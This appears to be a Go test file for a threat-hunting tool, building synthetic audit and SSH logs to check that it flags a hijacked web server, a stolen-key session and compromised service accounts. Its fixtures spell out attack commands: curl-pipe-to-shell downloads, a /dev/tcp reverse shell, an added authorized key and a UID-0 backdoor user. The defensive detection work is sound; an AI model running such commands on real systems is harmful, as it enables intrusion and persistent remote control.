package hunt_test

import (
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tuxtrail/tuxtrail/hunt"
)

// auditLog writes raw audit records of a made-up host.
type auditLog struct {
	b      strings.Builder
	serial int
	second int
}

func (a *auditLog) stamp() string {
	a.serial++
	return fmt.Sprintf("audit(%d.%03d:%d)", 1795000000+a.second, a.serial%1000, a.serial)
}

// exec writes the exec of a program; auid and ses as auditd writes them.
func (a *auditLog) exec(pid, ppid int, ids, exe string, argv ...string) {
	s := a.stamp()
	fmt.Fprintf(&a.b, "type=SYSCALL msg=%s: arch=c000003e syscall=59 success=yes exit=0 a0=0 a1=0 a2=0 a3=0 items=2 ppid=%d pid=%d %s comm=%q exe=%q key=\"exec\"\n",
		s, ppid, pid, ids, exe[strings.LastIndexByte(exe, '/')+1:], exe)
	fmt.Fprintf(&a.b, "type=EXECVE msg=%s: argc=%d", s, len(argv))
	for i, arg := range argv {
		fmt.Fprintf(&a.b, " a%d=%s", i, strings.ToUpper(hex.EncodeToString([]byte(arg))))
	}
	a.b.WriteString("\n")
}

const (
	nobody = "auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295"
	system = "auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295"
)

// TestHijackedApplication: a shell under a web server that fetches and runs.
func TestHijackedApplication(t *testing.T) {
	var a auditLog
	a.exec(700, 1, system, "/usr/sbin/apache2", "/usr/sbin/apache2", "-k", "start")
	a.second = 60
	a.exec(900, 700, nobody, "/usr/bin/dash", "sh", "-c", "id; curl -s http://203.0.113.8/a | sh")
	a.exec(901, 900, nobody, "/usr/bin/id", "id")
	a.exec(902, 900, nobody, "/usr/bin/curl", "curl", "-s", "http://203.0.113.8/a")
	a.exec(903, 900, nobody, "/usr/bin/dash", "sh")
	a.second = 70
	a.exec(904, 903, nobody, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.8/443 0>&1")
	inv := investigate(t, open(t, fstest.MapFS{"audit/audit.log": {Data: []byte(a.b.String())}}), hunt.Options{})
	require.NotEmpty(t, inv.Findings)
	top := inv.Findings[0]
	assert.Equal(t, hunt.SeverityCritical, top.Severity)
	assert.Contains(t, top.Title, "Hijacked application")
	assert.Contains(t, top.Title, "apache2")
	assert.Contains(t, top.Hypotheses, hunt.HijackedApp)
	var story strings.Builder
	for _, s := range top.Steps {
		story.WriteString(s.Text + "\n")
	}
	assert.Contains(t, story.String(), "http://203.0.113.8/a")
	assert.Contains(t, story.String(), "203.0.113.8:443")
	for _, v := range inv.Hypotheses {
		if v.Hypothesis == hunt.HijackedApp {
			assert.Equal(t, hunt.Supported, v.Answer)
		}
	}
	assert.NotContains(t, blindSections(inv), "services", "this audit log has what daemons start")
}

// TestServersAtWork: what servers start every day is no finding.
func TestServersAtWork(t *testing.T) {
	var a auditLog
	a.exec(600, 1, system, "/usr/sbin/cron", "/usr/sbin/cron", "-f")
	a.exec(601, 600, system, "/usr/bin/dash", "/bin/sh", "-c", "cd / && run-parts --report /etc/cron.hourly")
	a.exec(602, 601, system, "/usr/bin/run-parts", "run-parts", "--report", "/etc/cron.hourly")
	a.exec(700, 1, system, "/usr/sbin/apache2", "/usr/sbin/apache2", "-k", "start")
	a.exec(710, 700, nobody, "/usr/sbin/apache2", "/usr/sbin/apache2", "-k", "start")
	a.exec(800, 1, system, "/usr/sbin/logrotate", "/usr/sbin/logrotate", "/etc/logrotate.conf")
	a.exec(801, 800, system, "/usr/bin/gzip", "/bin/gzip")
	inv := investigate(t, open(t, fstest.MapFS{"audit/audit.log": {Data: []byte(a.b.String())}}), hunt.Options{})
	for _, f := range inv.Findings {
		assert.LessOrEqual(t, f.Severity.Compare(hunt.SeverityLow), 0, f.Summary)
	}
}

// TestStolenKey: no guessing goes before, and nothing is said by address; what
// is done in the session tells, and its logon is told with it.
func TestStolenKey(t *testing.T) {
	texts := []string{
		"sshd[11]: Accepted publickey for dana from 192.0.2.4 port 40000 ssh2: ED25519 SHA256:abc",
		"sshd[11]: pam_unix(sshd:session): session opened for user dana(uid=1004) by (uid=0)",
		"sudo:     dana : TTY=pts/1 ; PWD=/home/dana ; USER=root ; COMMAND=/usr/bin/apt-get update",
		"sshd[11]: pam_unix(sshd:session): session closed for user dana",
		"sshd[20]: Accepted publickey for dana from 203.0.113.9 port 40001 ssh2: ED25519 SHA256:abc",
		"sshd[20]: pam_unix(sshd:session): session opened for user dana(uid=1004) by (uid=0)",
		"sudo:     dana : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/bash -c 'curl -fsS http://203.0.113.8/k | bash'",
		"sudo:     dana : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/tee -a /root/.ssh/authorized_keys",
		"sudo:     dana : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/sbin/useradd -o -u 0 -g 0 sysadm",
		"useradd[30]: new user: name=sysadm, UID=0, GID=0, home=/home/sysadm, shell=/bin/sh, from=/dev/pts/0",
		"sshd[20]: pam_unix(sshd:session): session closed for user dana",
	}
	inv := investigate(t, open(t, fstest.MapFS{"auth.log": {Data: lines(texts...)}}), hunt.Options{})
	require.NotEmpty(t, inv.Findings)
	top := inv.Findings[0]
	assert.GreaterOrEqual(t, top.Severity.Compare(hunt.SeverityHigh), 0)
	assert.Equal(t, []string{"S2"}, top.Sessions, "the owner's own session is not in it")
	assert.Equal(t, "203.0.113.9", top.Addresses[len(top.Addresses)-1].String())
	var story strings.Builder
	for _, s := range top.Steps {
		story.WriteString(s.Text + "\n")
	}
	for _, must := range []string{"dana logged on from 203.0.113.9", "http://203.0.113.8/k", "/root/.ssh/authorized_keys", "sysadm"} {
		assert.Contains(t, story.String(), must)
	}
	for _, f := range inv.Findings[1:] {
		assert.LessOrEqual(t, f.Severity.Compare(hunt.SeverityLow), 0, f.Summary)
	}
}

// TestServiceAccountsAreToldByTheLogs: what an account is follows from its
// number, its shell and its logons; names are asked last.
func TestServiceAccountsAreToldByTheLogs(t *testing.T) {
	ids := func(uid string) string { return strings.ReplaceAll(nobody, "=33", "="+uid) }
	attack := func(uid string) string {
		var a auditLog
		a.exec(700, 1, ids(uid), "/opt/board/bin/board", "/opt/board/bin/board", "serve")
		a.second = 60
		a.exec(900, 700, ids(uid), "/usr/bin/dash", "sh", "-c", "id; curl -s http://203.0.113.8/a | sh")
		a.exec(901, 900, ids(uid), "/usr/bin/id", "id")
		a.exec(902, 900, ids(uid), "/usr/bin/curl", "curl", "-s", "http://203.0.113.8/a")
		return a.b.String()
	}
	logon := func(uid string) string {
		return fmt.Sprintf("sshd[5]: pam_unix(sshd:session): session opened for user board(uid=%s) by (uid=0)", uid)
	}
	for _, tc := range []struct {
		name, audit string
		auth        []string
		service     bool
	}{
		{"a number of the system's range", attack("113"), nil, true},
		{"a person's number", attack("1013"), nil, false},
		{"a number of the system's range that people log on as", attack("113"), []string{"sshd[5]: Accepted publickey for board from 192.0.2.4 port 4 ssh2: ED25519 SHA256:x", logon("113")}, false},
		{"the number of nobody", attack("65534"), nil, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			files := fstest.MapFS{"audit/audit.log": {Data: []byte(tc.audit)}}
			if tc.auth != nil {
				files["auth.log"] = &fstest.MapFile{Data: lines(tc.auth...)}
			}
			inv := investigate(t, open(t, files), hunt.Options{})
			assert.Equal(t, tc.service, answers(inv)[hunt.HijackedApp] == hunt.Supported)
		})
	}
}
